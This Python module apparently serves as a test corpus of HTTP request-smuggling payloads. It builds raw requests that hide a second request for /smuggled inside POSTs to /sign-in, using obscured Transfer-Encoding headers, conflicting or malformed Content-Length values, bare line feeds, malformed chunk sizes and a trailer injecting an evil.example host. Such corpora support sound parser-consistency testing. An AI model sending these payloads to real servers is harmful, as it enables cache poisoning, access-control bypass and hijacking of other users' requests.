"""Requests that two servers in a row might read differently. Each tries to hide one for `/smuggled` inside another.

After the published classes of request smuggling: content length against transfer coding in both orders, obscured
transfer codings, several or odd content lengths, bare line feeds, chunk tricks, and header lines that are none.
"""

HOST = b"Host: visits.example.org\r\n"
HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: visits.example.org\r\n\r\n"
LAST = b"GET /healthz HTTP/1.1\r\nHost: visits.example.org\r\nConnection: close\r\n\r\n"
"""After each, so that a connection that is still understood also ends."""
CHUNK = b"0\r\n\r\n"


def _post(headers: bytes, body: bytes, line: bytes = b"POST /sign-in HTTP/1.1\r\n") -> bytes:
    return line + HOST + headers + b"\r\n" + body


def _obscured(coding: bytes) -> bytes:
    """A transfer coding that one server might not see: then the content length counts, and hides a request."""
    return _post(coding + b"\r\nContent-Length: 4\r\n", b"1\r\nA\r\n" + CHUNK + HIDDEN)


OBSCURED = (
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, identity",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"Transfer-Encoding\n: chunked",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer_Encoding: chunked",
    b"transfer-encoding: CHUNKED",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: ch\xc3\xbcnked",
)
LENGTHS = (
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: 0, %d",
    b"Content-Length: +0",
    b"Content-Length: -1",
    b"Content-Length: 0x0",
    b"Content-Length: 00000000000000000000",
    b"Content-Length: 0 %d",
    b"Content-Length : 0",
    b"Content_Length: 0",
    b"Content-Length: ",
    b"Content-Length: 1e0",
    b"Content-Length: \xd9\xa0",
)
CHUNKS = (
    b"0\r\n\r\n" + HIDDEN,
    b"0\n\n" + HIDDEN,
    b"0;ext=\n" + HIDDEN + b"\r\n\r\n",
    b"0x0\r\n\r\n" + HIDDEN,
    b"-1\r\n\r\n" + HIDDEN,
    b"00000000000000000000\r\n\r\n" + HIDDEN,
    b"FFFFFFFFFFFFFFFFF\r\n" + HIDDEN,
    b"2\r\nAAA\r\n0\r\n\r\n" + HIDDEN,
    b"0\r\nContent-Length: 0\r\nHost: evil.example\r\n\r\n" + HIDDEN,
    b" 0\r\n\r\n" + HIDDEN,
)


def _corpus() -> dict[str, bytes]:
    hidden = len(HIDDEN)
    found = {f"obscured coding {n}": _obscured(one) for n, one in enumerate(OBSCURED)}
    for n, one in enumerate(LENGTHS):
        found[f"odd length {n}"] = _post(one.replace(b"%d", b"%d" % hidden) + b"\r\n", HIDDEN)
    found["both, length first"] = _post(b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", CHUNK + HIDDEN)
    found["both, coding first"] = _post(b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", CHUNK + HIDDEN)
    found["request line in a header"] = _post(b"X: y\r\n\r\nGET /smuggled HTTP/1.1\r\nContent-Length: 0\r\n", b"")[:-2]
    found["space in the line"] = _post(b"Content-Length: 0\r\n", HIDDEN, b"POST /sign-in HTTP/1.1 \r\n")
    both = b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"
    found["old version"] = _post(both, CHUNK + HIDDEN, b"POST /sign-in HTTP/1.0\r\n")
    found["body of a look"] = _post(b"Content-Length: %d\r\n" % hidden, HIDDEN, b"GET /sign-in HTTP/1.1\r\n")
    for n, one in enumerate(CHUNKS):
        found[f"odd chunk {n}"] = _post(b"Transfer-Encoding: chunked\r\n", one)
    return {name: raw + LAST for name, raw in found.items()}


CORPUS = _corpus()
